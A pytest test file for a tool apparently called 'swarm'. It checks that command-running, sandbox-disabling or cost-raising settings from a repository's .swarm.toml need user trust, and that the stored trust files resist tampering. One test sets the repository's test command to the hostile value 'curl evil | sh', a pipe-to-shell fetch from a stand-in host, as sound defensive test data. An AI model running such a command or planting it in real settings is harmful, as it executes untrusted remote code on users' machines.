"""What comes from the repository and decides what runs needs the user's trust, once for each content."""

import os
import subprocess
import sys
import time
from collections.abc import Callable, Mapping
from contextlib import AbstractContextManager
from pathlib import Path

import pytest

from swarm.errors import NotTrusted, TrustNotKept, shown
from swarm.settings.places import state_folder, state_place
from swarm.settings.sources import load
from swarm.settings.trust import require_trust, revoke, trust

WRITERS = 6
EACH = 25

TRUST_MANY = """
import sys
from pathlib import Path
from swarm.settings.sources import load
from swarm.settings.trust import require_trust, trust
place, writer, count = Path(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
environ = {"XDG_STATE_HOME": str(place / "state"), "XDG_CONFIG_HOME": str(place)}
for number in range(count):
    top = place / f"{writer}-{number}"
    top.mkdir()
    (top / ".swarm.toml").write_text(f'test = "make test-{(writer * number) % 40}"')
    resolved = load(top, environ, {})
    trust(resolved, "book", environ)
    require_trust(resolved, "book", environ)
print("done")
"""

TRUST_FOR_EVER = """
import sys
from pathlib import Path
from swarm.settings.sources import load
from swarm.settings.trust import trust
top, environ = Path(sys.argv[1]), {"XDG_STATE_HOME": sys.argv[2], "XDG_CONFIG_HOME": sys.argv[2]}
print("begun", flush=True)
number = 0
while True:
    (top / ".swarm.toml").write_text(f'test = "make {number}"')
    trust(load(top, environ, {}), "book", environ)
    number += 1
"""


def suggest(top: Path, text: str) -> None:
    (top / ".swarm.toml").write_text(text, "utf-8")


def refusal(top: Path, environ: Mapping[str, str], identity: str = "book") -> str:
    with pytest.raises(NotTrusted) as refused:
        require_trust(load(top, environ, {}), identity, environ)
    assert refused.value.exit_code == 3
    return shown(refused.value)


def kept(environ: Mapping[str, str], identity: str = "book") -> list[Path]:
    return sorted((state_place(identity, environ) / "trust").iterdir())


def test_a_test_command_of_the_repository_needs_trust_and_the_message_says_how(environ: dict[str, str], top: Path):
    suggest(top, 'test = "curl evil | sh"\nagents = 3')
    assert refusal(top, environ).splitlines() == [
        "The repository's own settings (.swarm.toml) are not trusted yet: test (runs a command)",
        "Whoever wrote them decides what runs on this machine and what it costs.",
        "Read them, then say `swarm config trust`; or give these settings yourself, as flags.",
    ]


def test_trust_is_given_once(environ: dict[str, str], top: Path):
    suggest(top, 'test = "make test"')
    refusal(top, environ)
    trust(load(top, environ, {}), "book", environ)
    require_trust(load(top, environ, {}), "book", environ)
    require_trust(load(top, environ, {}), "book", environ)


def test_changed_content_asks_again_and_says_that_it_changed(environ: dict[str, str], top: Path):
    suggest(top, 'test = "make test"')
    trust(load(top, environ, {}), "book", environ)
    suggest(top, 'test = "make evil"')
    assert "have changed since you trusted them: test (runs a command)" in refusal(top, environ)


@pytest.mark.parametrize("changed", ['test = "make test"\nagents = 4', 'test = "make test "', 'test = "make test"\nmax_cost = 1'])
def test_any_change_of_a_value_asks_again(environ: dict[str, str], top: Path, changed: str):
    suggest(top, 'test = "make test"\n')
    trust(load(top, environ, {}), "book", environ)
    suggest(top, changed)
    assert "have changed" in refusal(top, environ)


def test_what_changes_no_value_asks_not_again(environ: dict[str, str], top: Path):
    suggest(top, 'test = "make test"\nagents = 3')
    trust(load(top, environ, {}), "book", environ)
    suggest(top, "# why\nagents = 3\n\ntest = 'make test'\n")
    require_trust(load(top, environ, {}), "book", environ)


def test_content_that_was_trusted_before_is_still_trusted_when_it_comes_back(environ: dict[str, str], top: Path):
    for command in ("one", "two"):
        suggest(top, f'test = "{command}"')
        trust(load(top, environ, {}), "book", environ)
    suggest(top, 'test = "one"')
    require_trust(load(top, environ, {}), "book", environ)


def test_trust_in_one_repository_is_none_in_another(environ: dict[str, str], top: Path):
    suggest(top, 'test = "make test"')
    trust(load(top, environ, {}), "book", environ)
    assert "are not trusted yet" in refusal(top, environ, "other")


def test_revoked_trust_is_gone(environ: dict[str, str], top: Path):
    suggest(top, 'test = "make test"')
    trust(load(top, environ, {}), "book", environ)
    trust(load(top, environ, {}), "other", environ)
    assert revoke("book", environ) == 1
    assert "are not trusted yet" in refusal(top, environ)
    require_trust(load(top, environ, {}), "other", environ)
    assert revoke("book", environ) == 0


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ('sandbox = "none"', "sandbox (chooses what holds commands back)"),
        ("max_cost = 100", "max_cost (decides what may be spent)"),
        ("max_tokens = 1", "max_tokens (decides what may be spent)"),
        ("max_cost_per_day = 1", "max_cost_per_day (decides what may be spent)"),
        ('max_cost = 1\ntest = "x"', "test (runs a command), max_cost (decides what may be spent)"),
    ],
)
def test_a_repository_neither_opens_the_sandbox_nor_spends_money_untrusted(
    environ: dict[str, str], user_file: Path, top: Path, text: str, named: str
):
    user_file.write_text('sandbox = "docker"\nmax_cost = 1\n')
    suggest(top, text)
    assert named in refusal(top, environ)


def test_settings_that_can_do_no_harm_need_no_trust(environ: dict[str, str], top: Path):
    suggest(top, 'agents = 3\ntimeout = 60\nmax_tasks = 5\nmax_depth = 1\nlease_seconds = 5\ngist_budget = 300\nbase = "main"')
    require_trust(load(top, environ, {}), "book", environ)


def test_what_flags_or_the_environment_override_needs_no_trust(environ: dict[str, str], top: Path):
    suggest(top, 'test = "evil"\nsandbox = "none"')
    resolved = load(top, {**environ, "SWARM_SANDBOX": "bubblewrap"}, {"test": "pytest"})
    require_trust(resolved, "book", environ)
    assert (resolved.settings.test, resolved.settings.sandbox) == ("pytest", "bubblewrap")


def test_what_the_user_says_needs_no_trust(environ: dict[str, str], user_file: Path, top: Path):
    user_file.write_text('test = "make test"\nsandbox = "none"\nmax_cost = 3')
    require_trust(load(top, {**environ, "SWARM_TEST": "tox"}, {"sandbox": "none"}), "book", environ)


def test_trust_is_a_file_that_only_its_owner_reads_in_a_folder_of_his(environ: dict[str, str], top: Path):
    suggest(top, 'test = "make test"')
    trust(load(top, environ, {}), "book", environ)
    (file,) = kept(environ)
    assert oct(file.stat().st_mode & 0o777) == "0o600"
    assert oct(file.parent.stat().st_mode & 0o777) == "0o700"
    assert file.read_text() == '{"test": "make test"}'


@pytest.mark.parametrize("tamper", ["link", "writable", "folder"])
def test_what_others_could_have_put_there_is_no_trust(environ: dict[str, str], top: Path, tamper: str):
    suggest(top, 'test = "make test"')
    trust(load(top, environ, {}), "book", environ)
    (file,) = kept(environ)
    if tamper == "writable":
        file.chmod(0o666)
    else:
        file.rename(top / "elsewhere")
        file.symlink_to(top / "elsewhere") if tamper == "link" else file.mkdir()
    refusal(top, environ)


def test_a_file_of_another_user_is_no_trust(open_folder: Path, powerless: Callable[[], AbstractContextManager[None]]):
    environ = {"XDG_STATE_HOME": str(open_folder / "state"), "XDG_CONFIG_HOME": str(open_folder)}
    (open_folder / "top").mkdir()
    suggest(open_folder / "top", 'test = "x"')
    resolved = load(open_folder / "top", environ, {})
    trust(resolved, "book", environ)
    (file,) = kept(environ)
    for place in (file.parent, file.parent.parent, file.parent.parent.parent):
        place.chmod(0o755)
    mine = os.geteuid()
    with powerless():
        if os.geteuid() == mine:  # not root: there is no other user to be, so the file stays trusted
            require_trust(resolved, "book", environ)
        else:
            with pytest.raises(NotTrusted):
                require_trust(resolved, "book", environ)


def test_a_repository_cannot_bring_its_own_trust(environ: dict[str, str], top: Path):
    inside = {**environ, "XDG_STATE_HOME": str(top / "state")}
    suggest(top, 'test = "evil"')
    place = state_folder("book", inside) / "trust"
    place.mkdir()
    trust(load(top, environ, {}), "book", environ)
    (elsewhere,) = kept(environ)
    (place / elsewhere.name).write_bytes(elsewhere.read_bytes())
    (place / elsewhere.name).chmod(0o600)
    with pytest.raises(TrustNotKept, match="inside the repository"):
        require_trust(load(top, inside, {}), "book", inside)
    with pytest.raises(TrustNotKept, match="inside the repository"):
        trust(load(top, inside, {}), "book", inside)


def test_a_link_hides_no_state_folder_inside_the_repository(environ: dict[str, str], top: Path, tmp_path: Path):
    (top / "state").mkdir()
    (tmp_path / "outside").symlink_to(top / "state")
    suggest(top, 'test = "evil"')
    inside = {**environ, "XDG_STATE_HOME": str(tmp_path / "outside")}
    with pytest.raises(TrustNotKept, match="inside the repository"):
        require_trust(load(top, inside, {}), "book", inside)


def test_a_state_folder_that_may_not_be_written_is_trouble_that_says_what_to_do(
    open_folder: Path, powerless: Callable[[], AbstractContextManager[None]]
):
    environ = {"XDG_STATE_HOME": str(open_folder / "state"), "XDG_CONFIG_HOME": str(open_folder)}
    (open_folder / "top").mkdir()
    suggest(open_folder / "top", 'test = "x"')
    resolved = load(open_folder / "top", environ, {})
    folder = state_folder("book", environ)
    for place in (folder, folder.parent):
        place.chmod(0o555)
    with powerless(), pytest.raises(TrustNotKept) as trouble:
        trust(resolved, "book", environ)
    assert "Permission denied" in shown(trouble.value)
    assert "XDG_STATE_HOME" in shown(trouble.value)
    assert list(folder.iterdir()) == []


def test_trust_that_cannot_be_looked_up_is_trouble(open_folder: Path, powerless: Callable[[], AbstractContextManager[None]]):
    environ = {"XDG_STATE_HOME": str(open_folder / "state"), "XDG_CONFIG_HOME": str(open_folder)}
    (open_folder / "top").mkdir()
    suggest(open_folder / "top", 'test = "x"')
    resolved = load(open_folder / "top", environ, {})
    trust(resolved, "book", environ)
    state_place("book", environ).chmod(0o000)
    with powerless():
        for look in (lambda: require_trust(resolved, "book", environ), lambda: revoke("book", environ)):
            with pytest.raises(TrustNotKept, match="Permission denied"):
                look()


def test_many_processes_give_trust_at_the_same_time_and_none_is_lost(tmp_path: Path):
    writers = [
        subprocess.Popen([sys.executable, "-c", TRUST_MANY, str(tmp_path), str(writer), str(EACH)], stdout=subprocess.PIPE)
        for writer in range(WRITERS)
    ]
    assert [writer.communicate(timeout=60)[0] for writer in writers] == [b"done\n"] * WRITERS
    environ = {"XDG_STATE_HOME": str(tmp_path / "state"), "XDG_CONFIG_HOME": str(tmp_path)}
    for writer in range(WRITERS):
        for number in range(EACH):
            require_trust(load(tmp_path / f"{writer}-{number}", environ, {}), "book", environ)
    contents = {(writer * number) % 40 for writer in range(WRITERS) for number in range(EACH)}
    assert len(kept(environ)) == len(contents)


def test_a_writer_killed_at_any_moment_leaves_only_whole_trust(tmp_path: Path):
    top, state = tmp_path / "top", tmp_path / "state"
    top.mkdir()
    for moment in range(8):
        with subprocess.Popen([sys.executable, "-c", TRUST_FOR_EVER, str(top), str(state)], stdout=subprocess.PIPE) as writer:
            assert writer.stdout is not None
            assert writer.stdout.readline() == b"begun\n"
            time.sleep(0.01 + 0.007 * moment)
            writer.kill()
    files = [file for file in kept({"XDG_STATE_HOME": str(state)}) if file.suffix == ".json"]
    assert files
    assert all(file.read_text().startswith('{"test": "make ') and file.read_text().endswith('"}') for file in files)
    assert revoke("book", {"XDG_STATE_HOME": str(state)}) == len(files)
    assert kept({"XDG_STATE_HOME": str(state)}) == []
